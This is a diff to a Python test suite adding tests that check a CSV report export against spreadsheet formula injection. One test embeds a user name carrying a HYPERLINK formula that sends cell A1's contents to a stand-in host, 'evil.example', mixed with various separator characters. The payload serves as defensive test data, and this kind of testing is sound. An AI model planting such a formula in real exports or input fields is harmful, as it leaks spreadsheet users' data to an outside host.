@@ -139,6 +139,25 @@ def test_a_name_that_is_a_formula_is_text(make_user, make_key, run, begin):
     assert not harmless(evil).lstrip("'").startswith(("\t", "\r", "\n"))
 
 
+@pytest.mark.parametrize("sign", [*FORMULA[:4], *FORMULA[-4:]])
+@pytest.mark.parametrize("before", [";", ",", "\t", "|", '"', "'", '";', "'; ", ';"', "\r\n", "; "])
+def test_no_other_separator_makes_a_formula_of_the_middle_of_a_name(before, sign):
+    row = dict.fromkeys(report.COLUMNS) | {
+        "name": f'till{before}{sign}HYPERLINK("http://evil.example/"&A1)',
+        "networks": [f"a{before}{sign}1"],
+    }
+    line = list(as_csv([row]))[1]
+    for delimiter in ",;\t|":
+        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
+            (cells,) = csv.reader(io.StringIO(line), delimiter=delimiter, quoting=quoting)
+            assert [cell for cell in cells if cell.strip(' "\t').startswith(FORMULA)] == []
+
+
+def test_every_cell_is_in_quotes(make_user, run):
+    make_user("ann")
+    assert all(line.startswith('"') and line.endswith('"') for line in run().splitlines())
+
+
 def test_unicode_quotes_and_lines_come_through_whole(make_user, make_key, run):
     name = 'naïve, "Ключ" 鍵\n\x1b[31mred\u202etxt'
     make_key(make_user("ann", "docs:read"), "docs:read")
